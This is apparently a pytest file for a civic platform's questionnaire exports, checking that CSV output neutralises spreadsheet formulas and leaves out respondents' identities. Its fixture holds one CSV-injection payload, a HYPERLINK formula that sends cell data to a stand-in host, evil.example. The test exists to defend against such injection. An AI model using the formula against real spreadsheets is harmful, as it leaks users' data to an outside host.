"""A questionnaire's CSV and JSON exports (node.services.questionnaire_export) and the shared
formula neutralisation (node.services.spreadsheet)."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from node.db import transaction
from node.models import User
from node.models.questionnaires import Questionnaire
from node.services import actors, questionnaire_export, spreadsheet
from node.services import questionnaires as service

PASSWORD = "password-123"


def _rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))


@pytest.fixture
async def exported(sessions, settings, uris):
    """A named quiz answered by three people (one of them types formulas)."""
    async with transaction(sessions) as s:
        org = await actors.create_organization(s, uris, "lisieux", "Ville de Lisieux")
        people = [await actors.create_user(s, uris, name, PASSWORD, name.title())
                  for name in ("alix", "bruno", "chloe")]
        q = await service.create(s, org, "sondage", {"fr": "Sondage", "en": "Survey"},
                                 languages=("fr", "en"), quiz=True)
        ids = [(await service.add_question(s, q, *spec[:2], **spec[2])).id for spec in (
            ("block", "Intro", {}),
            ("short_text", "=Titre", {"correct": "ok"}),
            ("multiple", "Parcs", {"options": [{"key": "a", "label": {"fr": "Parc A", "en": "Park A"}},
                                               {"key": "b", "label": {"fr": "@Parc B"}}]}),
            ("matrix_single", "Note", {"options": ["Bien", "Mal"], "rows": ["Bus", "Tram"]}),
            ("scale", "Satisfaction", {"settings": {"min": -2, "max": 2}}),
        )]
        await service.publish(s, q)
    answers = [
        {ids[1]: "ok", ids[2]: ["a", "b"], ids[3]: {"1": "1", "2": "2"}, ids[4]: -2},
        {ids[1]: '=HYPERLINK("http://evil.example/?"&A1,"clic")', ids[2]: ["b"], ids[4]: 1},
        {ids[1]: "+33 1 23", ids[3]: {"2": "1"}},
    ]
    for person, values in zip(people, answers, strict=True):
        async with transaction(sessions) as s:
            await service.submit(s, settings, await s.get(Questionnaire, q.id), await s.get(User, person.id),
                                 values)
    return q, ids, people


async def test_to_csv__one_row_per_response_one_column_per_question_or_matrix_row(sessions, exported):
    q, _, _ = exported
    async with sessions() as s:
        data = await questionnaire_export.to_csv(s, q)
        english = await questionnaire_export.to_csv(s, q, "en")
    rows = _rows(data)
    assert rows[0] == ["response", "language", "submitted", "score", "2. =Titre", "3. Parcs",
                       "4. Note [Bus]", "4. Note [Tram]", "5. Satisfaction"]
    assert [r[0] for r in rows[1:]] == ["1", "2", "3"]
    first = rows[1]
    assert first[3:] == ["1", "ok", "Parc A; @Parc B", "Bien", "Mal", "-2"]  # "-2" is a number
    assert rows[2][4].startswith("'=HYPERLINK(") and rows[3][4] == "'+33 1 23"
    assert rows[3][5:8] == ["", "", "Bien"]
    assert rows[2][5] == "'@Parc B"  # a label is anyone's choice too
    assert _rows(english)[1][5] == "Park A; @Parc B"  # labels in the asked language, else French
    for name in (b"alix", b"bruno", b"chloe", b"Alix"):  # no account, no handle, no name
        assert name not in data


async def test_to_json__questions_and_values_without_accounts(sessions, exported):
    q, ids, _ = exported
    async with sessions() as s:
        data = await questionnaire_export.to_json(s, q)
    assert data["format"] == "civic-node-questionnaire/1"
    assert [question["id"] for question in data["questions"]] == ids
    assert data["questionnaire"]["responses"] == 3 and len(data["responses"]) == 3
    first = data["responses"][0]
    assert set(first) == {"response", "language", "submitted", "score", "answers"}
    assert first["answers"] == {str(ids[1]): "ok", str(ids[2]): ["a", "b"],
                                str(ids[3]): {"1": ["1"], "2": ["2"]}, str(ids[4]): -2}
    assert "alix" not in str(data) and "respondent" not in str(data)


@given(st.lists(st.lists(st.text(max_size=12), max_size=5), max_size=5))
def test_neutralised__no_cell_starts_like_a_formula_unless_a_number(rows):
    """Whatever the cells, none of the result starts with = + - @ tab or return unless it is a
    number, and every other cell is unchanged."""
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerows(rows)
    cleaned = list(csv.reader(io.StringIO(spreadsheet.neutralised(out.getvalue()), newline="")))
    original = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert len(cleaned) == len(original)
    for before, after in zip(original, cleaned, strict=True):
        for a, b in zip(before, after, strict=True):
            assert b == spreadsheet.neutralised_cell(a)
            assert b[:1] not in spreadsheet.FORMULA_STARTS or spreadsheet.is_number(b)
            assert b == a or b == "'" + a
